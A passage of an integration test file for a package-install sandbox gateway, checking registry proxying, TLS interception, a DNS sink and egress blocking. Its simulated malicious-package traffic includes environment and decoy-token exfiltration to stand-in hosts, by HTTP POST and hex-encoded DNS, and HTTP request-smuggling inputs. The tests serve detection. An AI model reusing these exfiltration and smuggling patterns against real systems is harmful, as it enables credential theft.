/**
 * Gateway and forwarder together, on loopback and unix sockets only: a fake registry on 127.0.0.1,
 * the forwarder on free loopback ports (standing for 3128, 53, 80 and 443), the gateway on a unix
 * socket in a temp dir. Names like `collect.test` are never resolved for real: the forwarder's DNS
 * answers them, and the one allowed name is pointed at loopback by `hostsOverride`.
 */
import { createHash, randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import type { DecoyIndex } from '@safe-install/schema';
import { validateGatewayConfig, type GatewayConfig } from './config.js';
import { DNS_TYPE, parseDnsAnswers } from './dns/message.js';
import { startForwarder, type BoundAddress, type StartedForwarder } from './forwarder/forwarder.js';
import { createProcNetIdentify } from './forwarder/identify.js';
import type { GatewayEvent } from './gateway/event-log.js';
import { startGateway, type StartedGateway } from './gateway/server.js';
import { GATEWAY_SOCKET_NAME, type ClientIdentity } from './protocol.js';
import { dnsOverUdp, fakeNpmToken, request, startFakeRegistry, startRecordingServer, type FakePackage, type FakeRegistry } from './test-support/fake-registry.js';

const REAL_TOKEN = `real-${randomBytes(12).toString('hex')}`;
const NPM_DECOY = fakeNpmToken();
const decoys: DecoyIndex = { values: [{ kind: 'npm-token', value: NPM_DECOY, plantedAt: ['env:NPM_TOKEN'] }], files: [] };
const demo: FakePackage = { name: 'demo-pkg', version: '1.0.0', tarball: randomBytes(5000) };
const scoped: FakePackage = { name: '@acme/widget', version: '2.1.0', tarball: randomBytes(3000) };
const oddlyStored: FakePackage = { name: 'odd-pkg', version: '0.1.0', tarball: randomBytes(100), path: '/storage/blobs/odd-pkg_0.1.0' };

let dir: string;
let registry: FakeRegistry;
let allowedHttp: Awaited<ReturnType<typeof startRecordingServer>>;
let allowedRaw: Awaited<ReturnType<typeof startRecordingServer>>;
let forwarder: StartedForwarder;
let gateway: StartedGateway;
let config: GatewayConfig;
let identity: ClientIdentity = {};
const events: GatewayEvent[] = [];
const procNet = createProcNetIdentify();

function bound(kind: BoundAddress['kind'], servicePort?: number): number {
  const address = forwarder.addresses.find((entry) => entry.kind === kind && (servicePort === undefined || entry.servicePort === servicePort));
  if (!address) throw new Error(`no ${kind} listener`);
  return address.port;
}

const proxyPort = (): number => bound('proxy');

function last<T extends GatewayEvent['type']>(type: T, predicate: (event: Extract<GatewayEvent, { type: T }>) => boolean = () => true): Extract<GatewayEvent, { type: T }> {
  const found = events.filter((event): event is Extract<GatewayEvent, { type: T }> => event.type === type && predicate(event as Extract<GatewayEvent, { type: T }>));
  const event = found[found.length - 1];
  if (!event) throw new Error(`no ${type} event`);
  return event;
}

/** Events are written after the response: give the gateway a moment. */
async function settle(): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, 50));
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'gateway-it-'));
  registry = await startFakeRegistry([demo, scoped, oddlyStored], REAL_TOKEN);
  allowedHttp = await startRecordingServer((data) => (data.includes('\r\n\r\n') ? 'HTTP/1.1 200 OK\r\nContent-Length: 13\r\nConnection: close\r\n\r\nhello-allowed' : null));
  allowedRaw = await startRecordingServer((data) => (data.length > 100 ? 'raw-ok' : null));
  forwarder = await startForwarder({
    socketDir: join(dir, 'sock'),
    identify: async (query) => ({ ...(await procNet(query)), ...identity }),
    proxy: [{ host: '127.0.0.1', port: 0, servicePort: 3128 }],
    dns: [{ host: '127.0.0.1', port: 0, servicePort: 53 }],
    // The "443" listener stands for allowedRaw's port, so an allowed TLS splice lands on that server.
    sink: [
      { host: '127.0.0.1', port: 0, servicePort: 80 },
      { host: '127.0.0.1', port: 0, servicePort: allowedRaw.port },
      { host: '127.0.0.1', port: 0, servicePort: 443 },
    ],
  });
  const checked = validateGatewayConfig({
    socketDir: join(dir, 'sock'),
    eventsFile: join(dir, 'out', 'gateway.jsonl'),
    cacheDir: join(dir, 'cache'),
    registries: [
      { prefix: '/r/0/', upstream: `${registry.origin}/`, auth: { type: 'bearer', value: REAL_TOKEN } },
      { prefix: '/r/1/', upstream: `${registry.origin}/`, auth: { type: 'bearer', value: REAL_TOKEN } },
      // Known in the sandbox by a host and path of its own (the real registry's, in a run).
      { prefix: '/r/2/', upstream: `${registry.origin}/`, auth: { type: 'bearer', value: REAL_TOKEN }, advertised: 'http://registry.example/npm/' },
      // Known by an https URL, as a CI job knows the registry: the gateway ends its TLS.
      { prefix: '/r/3/', upstream: `${registry.origin}/`, auth: { type: 'bearer', value: REAL_TOKEN }, advertised: 'https://secure.example/' },
    ],
    strictSsl: true,
    allow: { global: [], packages: { 'pkg-a': [`allowed.test:${allowedHttp.port}`, `allowed.test:${allowedRaw.port}`] } },
    decoys,
    sinkAddress: '127.10.0.1',
    advertisedOrigin: `http://127.0.0.1:${proxyPort()}`,
    hostsOverride: { 'allowed.test': '127.0.0.1' },
  });
  if (!checked.value) throw new Error(checked.errors.join('; '));
  config = checked.value;
  gateway = await startGateway(config, { onEvent: (event) => events.push(event) });
});

afterAll(async () => {
  await forwarder?.close();
  await gateway?.close();
  await registry?.close();
  await allowedHttp?.close();
  await allowedRaw?.close();
  rmSync(dir, { recursive: true, force: true });
});

beforeEach(() => {
  identity = {};
});

describe('registry proxy', () => {
  test('a packument comes back with tarball URLs pointing at the gateway; the upstream saw the real token', async () => {
    const before = registry.requests.length;
    const response = await request({ host: '127.0.0.1', port: proxyPort(), path: '/r/0/demo-pkg', headers: { accept: 'application/json' } });
    expect(response.status).toBe(200);
    const packument = JSON.parse(response.body.toString('utf8')) as { versions: Record<string, { dist: { tarball: string } }> };
    expect(packument.versions['1.0.0']?.dist.tarball).toBe(`http://127.0.0.1:${proxyPort()}/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz`);
    const seen = registry.requests.slice(before);
    expect(seen).toEqual([expect.objectContaining({ method: 'GET', url: '/demo-pkg', authorization: `Bearer ${REAL_TOKEN}` })]);
    await settle();
    expect(last('http', (event) => event.url.endsWith('/demo-pkg'))).toMatchObject({ decision: 'registry', status: 200, upstream: true, method: 'GET' });
  });

  test('the abbreviated (corgi) packument of a scoped package is rewritten too, under its own prefix', async () => {
    const response = await request({ host: '127.0.0.1', port: proxyPort(), path: '/r/1/@acme%2fwidget', headers: { accept: 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*' } });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('application/vnd.npm.install-v1+json');
    const packument = JSON.parse(response.body.toString('utf8')) as { versions: Record<string, { dist: { tarball: string } }> };
    expect(packument.versions['2.1.0']?.dist.tarball).toBe(`http://127.0.0.1:${proxyPort()}/r/1/@acme/widget/-/widget-2.1.0.tgz`);
    expect(registry.requests[registry.requests.length - 1]?.accept).toContain('application/vnd.npm.install-v1+json');
  });

  test('a tarball is fetched once; the second time it comes from the cache and the upstream sees nothing', async () => {
    const path = '/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz';
    const before = registry.requests.length;
    const first = await request({ host: '127.0.0.1', port: proxyPort(), path });
    expect(first.status).toBe(200);
    expect(createHash('sha512').update(first.body).digest('base64')).toBe(createHash('sha512').update(demo.tarball).digest('base64'));
    await settle();
    expect(last('http', (event) => event.url.endsWith('.tgz'))).toMatchObject({ decision: 'registry', upstream: true, bytes: demo.tarball.length });
    const second = await request({ host: '127.0.0.1', port: proxyPort(), path });
    expect(second.body.equals(demo.tarball)).toBe(true);
    await settle();
    expect(last('http', (event) => event.url.endsWith('.tgz'))).toMatchObject({ decision: 'registry', upstream: false, status: 200 });
    expect(registry.requests.slice(before).filter((seen) => seen.url.endsWith('.tgz'))).toHaveLength(1);
  });

  test('a tarball at a path only its packument names is served once the packument handed it out', async () => {
    const path = '/r/0/storage/blobs/odd-pkg_0.1.0';
    expect((await request({ host: '127.0.0.1', port: proxyPort(), path })).status).toBe(403);
    const packument = await request({ host: '127.0.0.1', port: proxyPort(), path: '/r/0/odd-pkg' });
    expect(JSON.parse(packument.body.toString()).versions['0.1.0'].dist.tarball).toBe(`http://127.0.0.1:${proxyPort()}${path}`);
    const tarball = await request({ host: '127.0.0.1', port: proxyPort(), path });
    expect(tarball.body.equals(oddlyStored.tarball)).toBe(true);
  });

  test('absolute-form requests to the proxy itself (npm with HTTP_PROXY set) are registry requests', async () => {
    const response = await request({ host: '127.0.0.1', port: proxyPort(), path: `http://127.0.0.1:${proxyPort()}/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz` });
    expect(response.status).toBe(200);
    expect(response.body.equals(demo.tarball)).toBe(true);
  });

  test('a registry known by its own URL: fetched through the proxy by that URL, tarballs given under it, npm’s configured token no leak', async () => {
    // The events of the tests before are written after their responses and can still be arriving
    // on a loaded machine: count from when they have stopped.
    for (let i = 0, seen = -1; i < 40 && events.length !== seen; i++) {
      seen = events.length;
      await settle();
    }
    const before = registry.requests.length;
    const eventsBefore = events.length;
    const headers = { accept: 'application/json', authorization: `Bearer ${NPM_DECOY}` };
    const response = await request({ host: '127.0.0.1', port: proxyPort(), path: 'http://registry.example/npm/demo-pkg', headers });
    expect(response.status).toBe(200);
    const tarball = (JSON.parse(response.body.toString('utf8')) as { versions: Record<string, { dist: { tarball: string } }> }).versions['1.0.0']?.dist.tarball;
    expect(tarball).toBe('http://registry.example/npm/demo-pkg/-/demo-pkg-1.0.0.tgz');
    const fetched = await request({ host: '127.0.0.1', port: proxyPort(), path: tarball!, headers });
    expect(fetched.body.equals(demo.tarball)).toBe(true);
    // Served from the cache the tests before filled; anything that did reach the upstream carried the
    // real token, never the decoy npm sent from its config.
    for (const seen of registry.requests.slice(before)) expect(seen.authorization).toBe(`Bearer ${REAL_TOKEN}`);
    // Events are written after each response; on a loaded machine that can take a while.
    for (let i = 0; i < 40 && events.length < eventsBefore + 2; i++) await settle();
    await settle();
    expect(events.slice(eventsBefore).map((event) => [event.type, (event as { decision?: string }).decision])).toEqual([
      ['http', 'registry'],
      ['http', 'registry'],
    ]);
  });

  test('a registry known by its own URL keeps the API refused, and the decoy token sent to it is evidence', async () => {
    identity = { package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'postinstall' };
    const response = await request({ host: '127.0.0.1', port: proxyPort(), path: 'http://registry.example/npm/-/whoami', headers: { authorization: `Bearer ${NPM_DECOY}` } });
    expect(response.status).toBe(403);
    await settle();
    const refused = last('http', (event) => event.url.endsWith('/-/whoami'));
    expect(refused).toMatchObject({ decision: 'denied', package: { name: 'pkg-b' } });
    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', where: 'header', seenIn: refused.id });
  });

  test('keep-alive: several requests on one connection', async () => {
    const socket = connect({ host: '127.0.0.1', port: proxyPort() });
    const path = '/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz';
    socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\n\r\nHEAD ${path} HTTP/1.1\r\nHost: x\r\n\r\nGET /r/0/-/whoami HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    await new Promise((resolve) => socket.on('close', resolve));
    const text = Buffer.concat(chunks).toString('latin1');
    expect(text.match(/HTTP\/1\.1 \d{3}/g)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 200', 'HTTP/1.1 403']);
    expect(Buffer.concat(chunks).length).toBeGreaterThan(demo.tarball.length);
  });

  test('a warm second gateway (same cache) serves packuments and tarballs without contacting the upstream', async () => {
    const warmEvents: GatewayEvent[] = [];
    const socketDir = join(dir, 'sock2');
    const warmForwarder = await startForwarder({ socketDir, proxy: [{ host: '127.0.0.1', port: 0 }], dns: [{ host: '127.0.0.1', port: 0 }], sink: [] });
    const warmPort = warmForwarder.addresses.find((entry) => entry.kind === 'proxy')?.port as number;
    const warm = await startGateway({ ...config, socketDir, eventsFile: join(dir, 'out', 'warm.jsonl'), advertisedOrigin: `http://127.0.0.1:${warmPort}` }, { onEvent: (event) => warmEvents.push(event) });
    try {
      const before = registry.requests.length;
      const packument = await request({ host: '127.0.0.1', port: warmPort, path: '/r/0/demo-pkg', headers: { accept: 'application/json' } });
      expect(JSON.parse(packument.body.toString('utf8')).versions['1.0.0'].dist.tarball).toBe(`http://127.0.0.1:${warmPort}/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz`);
      const tarball = await request({ host: '127.0.0.1', port: warmPort, path: '/r/0/demo-pkg/-/demo-pkg-1.0.0.tgz' });
      expect(tarball.body.equals(demo.tarball)).toBe(true);
      await settle();
      expect(registry.requests.length).toBe(before);
      expect(warmEvents.filter((event) => event.type === 'http').map((event) => (event as { upstream?: boolean }).upstream)).toEqual([false, false]);
      const lines = readFileSync(join(dir, 'out', 'warm.jsonl'), 'utf8').trim().split('\n');
      expect(lines.map((line) => JSON.parse(line).id)).toEqual(['g1', 'g2']);
    } finally {
      await warmForwarder.close();
      await warm.close();
    }
  });

  test.each([
    ['GET', '/r/0/-/whoami'],
    ['GET', '/r/0/-/v1/search?text=x'],
    ['PUT', '/r/0/demo-pkg'],
    ['GET', '/r/0/-/npm/v1/tokens'],
    ['DELETE', '/r/0/-/package/demo-pkg/dist-tags/latest'],
  ])('%s %s is refused, recorded, and never reaches the upstream', async (method, path) => {
    const before = registry.requests.length;
    identity = { package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'postinstall' };
    const response = await request({ host: '127.0.0.1', port: proxyPort(), method, path, headers: { authorization: `Bearer ${NPM_DECOY}` }, ...(method === 'PUT' ? { body: '{}' } : {}) });
    expect(response.status).toBe(403);
    expect(registry.requests.length).toBe(before);
    await settle();
    const refused = last('http', (event) => event.method === method && event.url.includes(path.replace('/r/0/', '/').split('?')[0] as string));
    expect(refused).toMatchObject({ decision: 'denied', status: 403, package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'postinstall' });
    // The decoy token the script sent along is itself evidence.
    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', where: 'header', seenIn: refused.id });
  });
});

describe('a registry known by an http URL, through a tunnel (Yarn Berry\'s proxy agent sends CONNECT for http too)', () => {
  /** One plain request inside a CONNECT tunnel to `authority`. */
  async function tunnelled(authority: string, request: string): Promise<{ status: number; body: string }> {
    const tunnel = await openTunnel(proxyPort(), authority);
    if (tunnel.status !== 200) return { status: tunnel.status, body: '' };
    tunnel.socket.write(request);
    const answer = await readAll(tunnel.socket);
    return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1]), body: answer.slice(answer.indexOf('\r\n\r\n') + 4) };
  }

  test('CONNECT to it is answered by the gateway, which serves the registry inside with the real credential', async () => {
    const before = registry.requests.length;
    const packument = await tunnelled('registry.example:80', 'GET /npm/demo-pkg HTTP/1.1\r\nHost: registry.example\r\nAccept: application/json\r\nConnection: close\r\n\r\n');
    expect(packument.status).toBe(200);
    expect(packument.body).toContain('http://registry.example/npm/demo-pkg/-/demo-pkg-1.0.0.tgz');
    // Served by the registry proxy (from its cache, when an earlier test fetched it), upstream only with the real credential.
    await settle();
    expect(last('http', (event) => event.url.endsWith('/demo-pkg') && event.decision === 'registry')).toMatchObject({ status: 200 });
    for (const seen of registry.requests.slice(before)) expect(seen.authorization).toBe(`Bearer ${REAL_TOKEN}`);
  });

  test('inside the tunnel only the registry is served: another Host is sinkholed, never forwarded; another port is no tunnel', async () => {
    identity = { package: { name: 'pkg-a', version: '1.0.0' } };
    const received = allowedHttp.received.length;
    const fronted = await tunnelled('registry.example:80', `GET /x HTTP/1.1\r\nHost: allowed.test:${allowedHttp.port}\r\nConnection: close\r\n\r\n`);
    expect(fronted.status).toBe(200);
    await settle();
    expect(allowedHttp.received.length).toBe(received);
    expect(last('http', (event) => event.host === 'allowed.test')).toMatchObject({ decision: 'sinked', reason: 'not the registry, inside a tunnel to it' });
    expect((await tunnelled('registry.example:8080', 'GET /npm/demo-pkg HTTP/1.1\r\nHost: registry.example\r\n\r\n')).status).toBe(403);
  });
});

describe('a registry known by an https URL (the gateway ends its TLS with the run\'s CA)', () => {
  test('CONNECT to it: the client trusting the run\'s CA gets packuments with https tarball URLs under that host', async () => {
    expect(gateway.caCertificate).toContain('-----BEGIN CERTIFICATE-----');
    const before = registry.requests.length;
    const packument = await httpsRequest({ via: 'connect', host: 'secure.example', path: '/demo-pkg', headers: { accept: 'application/json', authorization: `Bearer ${NPM_DECOY}` } });
    expect(packument.status).toBe(200);
    const tarball = (JSON.parse(packument.body.toString('utf8')) as { versions: Record<string, { dist: { tarball: string } }> }).versions['1.0.0']?.dist.tarball;
    expect(tarball).toBe('https://secure.example/demo-pkg/-/demo-pkg-1.0.0.tgz');
    const fetched = await httpsRequest({ via: 'connect', host: 'secure.example', path: new URL(tarball!).pathname });
    expect(fetched.status).toBe(200);
    expect(fetched.body.equals(demo.tarball)).toBe(true);
    for (const seen of registry.requests.slice(before)) expect(seen.authorization).toBe(`Bearer ${REAL_TOKEN}`);
    await settle();
    expect(last('http', (event) => event.url.endsWith('/demo-pkg-1.0.0.tgz') && event.decision === 'registry')).toMatchObject({ status: 200 });
    // The tunnel itself is no event: what matters happens inside it.
    expect(events.some((event) => event.type === 'http' && event.method === 'CONNECT' && event.host === 'secure.example')).toBe(false);
  });

  test('inside that TLS the registry rules hold: the API is refused, another Host is sinkholed and never forwarded', async () => {
    identity = { package: { name: 'pkg-a', version: '1.0.0' } };
    const whoami = await httpsRequest({ via: 'connect', host: 'secure.example', path: '/-/whoami', headers: { authorization: `Bearer ${NPM_DECOY}` } });
    expect(whoami.status).toBe(403);
    await settle();
    const refused = last('http', (event) => event.url.endsWith('/-/whoami'));
    expect(refused).toMatchObject({ decision: 'denied', package: { name: 'pkg-a' } });
    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', seenIn: refused.id });
    // allowed.test is allowed for pkg-a, but not from inside the registry's TLS (domain fronting).
    const received = allowedHttp.received.length;
    const fronted = await httpsRequest({ via: 'connect', host: 'secure.example', hostHeader: `allowed.test:${allowedHttp.port}`, path: '/x' });
    expect(fronted.status).toBe(200);
    await settle();
    expect(allowedHttp.received.length).toBe(received);
    expect(last('http', (event) => event.host === 'allowed.test')).toMatchObject({ decision: 'sinked', reason: 'not the registry, inside a TLS connection to it', url: `https://allowed.test:${allowedHttp.port}/x` });
  });

  test('a client that ignores the proxy reaches it through DNS and the sink\'s 443 by its server name', async () => {
    const response = await httpsRequest({ via: 'sink', host: 'secure.example', path: '/demo-pkg', headers: { accept: 'application/json' } });
    expect(response.status).toBe(200);
    expect(response.body.toString('utf8')).toContain('https://secure.example/demo-pkg/-/demo-pkg-1.0.0.tgz');
  });

  test('a client that does not trust the run\'s CA fails the handshake, and the attempt is recorded', async () => {
    await expect(httpsRequest({ via: 'connect', host: 'secure.example', path: '/demo-pkg', trust: null })).rejects.toThrow(/self[- ]signed|unable to verify|local issuer/i);
    await settle();
    expect(last('http', (event) => event.method === 'TLS' && event.host === 'secure.example')).toMatchObject({ decision: 'denied', reason: expect.stringMatching(/^TLS to the registry not completed/) });
  });

  test('plain HTTP or garbage inside the registry tunnel ends it, recorded; the gateway keeps serving', async () => {
    for (const junk of ['GET /demo-pkg HTTP/1.1\r\nHost: secure.example\r\n\r\n', '\x16\x03\x01\x00\x05hello', '\x16\x03\x03\xff\xff' + 'A'.repeat(3000)]) {
      const tunnel = await openTunnel(proxyPort(), 'secure.example:443');
      expect(tunnel.status).toBe(200);
      tunnel.socket.write(Buffer.from(junk, 'latin1'));
      const answer = await readAll(tunnel.socket);
      // Nothing from the registry comes back: at most a TLS alert.
      expect(answer).not.toMatch(/HTTP\/1\.1|demo-pkg/);
    }
    await settle();
    const failures = events.filter((event) => event.type === 'http' && event.method === 'TLS' && event.host === 'secure.example');
    expect(failures.length).toBeGreaterThanOrEqual(3);
    const response = await httpsRequest({ via: 'connect', host: 'secure.example', path: '/demo-pkg', headers: { accept: 'application/json' } });
    expect(response.status).toBe(200);
  });

  test('another port of that host is not the registry: CONNECT there is refused as before', async () => {
    const tunnel = await openTunnel(proxyPort(), 'secure.example:8443');
    expect(tunnel.status).toBe(403);
    tunnel.socket.destroy();
  });

  test('with a trust store, the certificate folder is copied and the CA appended to its bundle before the gateway listens; each gateway has its own CA', async () => {
    const from = join(dir, 'certs');
    mkdirSync(from);
    const existing = '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----';
    writeFileSync(join(from, 'ca-certificates.crt'), existing);
    writeFileSync(join(from, 'other.pem'), 'other');
    symlinkSync('/usr/share/ca-certificates/x.crt', join(from, 'x.pem'));
    mkdirSync(join(from, 'subfolder'));
    const into = join(dir, 'trust');
    const other = await startGateway({ ...config, socketDir: join(dir, 'sock-bundle'), eventsFile: join(dir, 'out', 'bundle.jsonl'), trustStore: { from, into, bundle: 'ca-certificates.crt' } });
    try {
      expect(other.caCertificate).not.toBeNull();
      expect(other.caCertificate).not.toBe(gateway.caCertificate);
      expect(readFileSync(join(into, 'ca-certificates.crt'), 'utf8')).toBe(`${existing}\n${other.caCertificate}`);
      expect(readFileSync(join(into, 'other.pem'), 'utf8')).toBe('other');
      expect(readlinkSync(join(into, 'x.pem'))).toBe('/usr/share/ca-certificates/x.crt');
      expect(readdirSync(into).sort()).toEqual(['ca-certificates.crt', 'other.pem', 'x.pem']);
      // The source is left as it was.
      expect(readFileSync(join(from, 'ca-certificates.crt'), 'utf8')).toBe(existing);
    } finally {
      await other.close();
    }
  });
});

describe('DNS sink', () => {
  test('a query for <hex of a hostname>.exfil.invalid is recorded and answered with the sink address', async () => {
    identity = { package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'preinstall' };
    const name = `${Buffer.from('build-host-17').toString('hex')}.exfil.invalid`;
    const answer = parseDnsAnswers(await dnsOverUdp(bound('dns-udp'), name, DNS_TYPE.A));
    expect(answer).toEqual({ rcode: 0, answers: [{ type: DNS_TYPE.A, data: Buffer.from([127, 10, 0, 1]) }] });
    await settle();
    const event = last('dns', (candidate) => candidate.name === name);
    expect(event).toMatchObject({ qtype: 'A', answered: 'sinked', package: { name: 'pkg-b' }, lifecycle: 'preinstall', source: 'gateway', pid: 0 });
    // The default identify found the client's socket in /proc/net/udp.
    expect(event.socket).toMatch(/^\d+$/);
  });

  test('AAAA gets an empty answer; TXT too', async () => {
    for (const qtype of [DNS_TYPE.AAAA, DNS_TYPE.TXT]) {
      const answer = parseDnsAnswers(await dnsOverUdp(bound('dns-udp'), 'collect.test', qtype));
      expect(answer).toEqual({ rcode: 0, answers: [] });
    }
  });

  test('a decoy token hex-encoded and split across labels is found', async () => {
    const hex = Buffer.from(NPM_DECOY).toString('hex');
    const name = `${hex.slice(0, 50)}.${hex.slice(50)}.x.exfil.invalid`;
    await dnsOverUdp(bound('dns-udp'), name, DNS_TYPE.A);
    await settle();
    const dns = last('dns', (event) => event.name === name);
    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', where: 'dns', encoding: 'hex', seenIn: dns.id });
  });

  test('DNS over TCP works the same', async () => {
    const socket = connect({ host: '127.0.0.1', port: bound('dns-tcp') });
    const { buildDnsQuery } = await import('./dns/message.js');
    const { frameDnsMessage, DnsFrameSplitter } = await import('./dns/framing.js');
    socket.write(frameDnsMessage(buildDnsQuery(7, 'tcp.exfil.invalid', DNS_TYPE.A)));
    const splitter = new DnsFrameSplitter();
    const message = await new Promise<Buffer>((resolve) => socket.on('data', (chunk: Buffer) => splitter.push(chunk).forEach(resolve)));
    socket.destroy();
    expect(parseDnsAnswers(message)?.answers[0]?.data).toEqual(Buffer.from([127, 10, 0, 1]));
  });
});

describe('sinkhole and egress policy', () => {
  test('a POST of the environment to http://collect.test/ (resolved through the DNS sink) is sinkholed with its body as evidence', async () => {
    identity = { package: { name: 'evil-pkg', version: '6.6.6' }, lifecycle: 'postinstall' };
    const answer = parseDnsAnswers(await dnsOverUdp(bound('dns-udp'), 'collect.test', DNS_TYPE.A));
    expect(answer?.answers[0]?.data).toEqual(Buffer.from([127, 10, 0, 1]));
    // The sink's "port 80" listens on a free loopback port here; the request is what Node would send to collect.test.
    const body = JSON.stringify({ HOME: '/home/node', NPM_TOKEN: NPM_DECOY, CI: 'true' });
    const response = await request({ host: '127.0.0.1', port: bound('sink', 80), method: 'POST', path: '/', headers: { host: 'collect.test', 'content-type': 'application/json' }, body });
    expect(response.status).toBe(200);
    expect(response.body.toString()).toBe('{}');
    await settle();
    const sinked = last('http', (event) => event.host === 'collect.test');
    expect(sinked).toMatchObject({ decision: 'sinked', method: 'POST', url: 'http://collect.test/', port: 80, package: { name: 'evil-pkg', version: '6.6.6' }, request: { body, bodyBytes: body.length } });
    expect(sinked.request?.headers['content-type']).toBe('application/json');
    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', where: 'body', encoding: 'plain', seenIn: sinked.id, package: { name: 'evil-pkg' } });
  });

  test('the same through the proxy, base64-encoded and chunked, is found too', async () => {
    identity = { package: { name: 'evil-pkg', version: '6.6.6' } };
    const body = Buffer.from(JSON.stringify({ env: { PATH: '/usr/bin', NPM_TOKEN: NPM_DECOY } })).toString('base64');
    const response = await request({ host: '127.0.0.1', port: proxyPort(), method: 'POST', path: 'http://collect.test/upload?id=1', headers: { host: 'collect.test', 'transfer-encoding': 'chunked' }, body });
    expect(response.status).toBe(200);
    await settle();
    const sinked = last('http', (event) => event.url === 'http://collect.test/upload?id=1');
    expect(sinked).toMatchObject({ decision: 'sinked', request: { bodyBytes: body.length } });
    expect(last('decoy-exfiltration')).toMatchObject({ decoyKind: 'npm-token', where: 'body', encoding: 'base64', seenIn: sinked.id });
  });

  test('CONNECT to a host nobody allowed is refused and attributed to the package', async () => {
    identity = { package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'install' };
    const tunnel = await openTunnel(proxyPort(), 'evil.test:443');
    expect(tunnel.status).toBe(403);
    tunnel.socket.destroy();
    await settle();
    expect(last('http', (event) => event.method === 'CONNECT')).toMatchObject({ decision: 'denied', host: 'evil.test', port: 443, status: 403, package: { name: 'pkg-b', version: '1.0.0' }, lifecycle: 'install' });
  });

  test('package A may reach allowed.test through the proxy (HTTP and CONNECT); package B may not', async () => {
    const url = `http://allowed.test:${allowedHttp.port}/hello`;
    identity = { package: { name: 'pkg-a', version: '1.0.0' } };
    const allowed = await request({ host: '127.0.0.1', port: proxyPort(), path: url, headers: { host: `allowed.test:${allowedHttp.port}` } });
    expect(allowed.body.toString()).toBe('hello-allowed');
    await settle();
    expect(last('http', (event) => event.url === url)).toMatchObject({ decision: 'allowed', status: 200, package: { name: 'pkg-a' } });
    expect(allowedHttp.received[allowedHttp.received.length - 1]?.toString('latin1')).toMatch(/^GET \/hello HTTP\/1\.1\r\n/);

    const tunnel = await openTunnel(proxyPort(), `allowed.test:${allowedHttp.port}`);
    expect(tunnel.status).toBe(200);
    tunnel.socket.write(`GET /via-tunnel HTTP/1.1\r\nHost: allowed.test\r\n\r\n`);
    expect(await readAll(tunnel.socket)).toContain('hello-allowed');

    identity = { package: { name: 'pkg-b', version: '1.0.0' } };
    const received = allowedHttp.received.length;
    const denied = await request({ host: '127.0.0.1', port: proxyPort(), path: url, headers: { host: `allowed.test:${allowedHttp.port}` } });
    expect(denied.body.toString()).toBe('{}');
    const deniedTunnel = await openTunnel(proxyPort(), `allowed.test:${allowedHttp.port}`);
    expect(deniedTunnel.status).toBe(403);
    deniedTunnel.socket.destroy();
    await settle();
    expect(allowedHttp.received.length).toBe(received);
    expect(last('http', (event) => event.url === url)).toMatchObject({ decision: 'sinked', package: { name: 'pkg-b' } });
    expect(last('http', (event) => event.method === 'CONNECT')).toMatchObject({ decision: 'denied', package: { name: 'pkg-b' } });
  });

  test('TLS to the sink: an allowed server name is spliced through; another is recorded and closed', async () => {
    identity = { package: { name: 'pkg-a', version: '1.0.0' } };
    const port = bound('sink', allowedRaw.port);
    const received = allowedRaw.received.length;
    await tlsAttempt(port, 'allowed.test');
    await settle();
    expect(allowedRaw.received.length).toBe(received + 1);
    const hello = allowedRaw.received[allowedRaw.received.length - 1] as Buffer;
    expect(hello[0]).toBe(0x16);
    expect(hello.includes(Buffer.from('allowed.test'))).toBe(true);
    expect(last('http', (event) => event.method === 'TLS')).toMatchObject({ decision: 'allowed', host: 'allowed.test', port: allowedRaw.port });

    identity = { package: { name: 'pkg-b', version: '1.0.0' } };
    await tlsAttempt(port, 'allowed.test');
    await tlsAttempt(port, 'c2.example');
    await settle();
    expect(allowedRaw.received.length).toBe(received + 1);
    expect(last('http', (event) => event.method === 'TLS')).toMatchObject({ decision: 'denied', host: 'c2.example', package: { name: 'pkg-b' } });
  });
});

describe('hostile clients', () => {
  test('garbage, malformed requests and smuggling attempts get 400s and evidence; the gateway keeps serving', async () => {
    const inputs = [
      randomBytes(2000),
      Buffer.from('GET / HTTP/1.1\r\nHost: a\r\n folded\r\n\r\n'),
      Buffer.from(`POST / HTTP/1.1\r\nHost: collect.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /r/0/-/whoami HTTP/1.1\r\n\r\n`),
      Buffer.from(`GET / HTTP/1.1\r\nX: ${'a'.repeat(70 * 1024)}\r\n\r\n`),
      Buffer.from(`POST http://collect.test/ HTTP/1.1\r\nContent-Length: 999999999999\r\n\r\n${NPM_DECOY}`),
      Buffer.from(`GET /r/0/demo-pkg HTTP/1.1\r\nHost: x\r\n`), // cut short
      Buffer.from([0x16, 3, 1, 0xff, 0xff, 1, 0xff, 0xff, 0xff]),
    ];
    for (const port of [proxyPort(), bound('sink', 80), bound('sink', allowedRaw.port), bound('dns-tcp')]) {
      for (const input of inputs) {
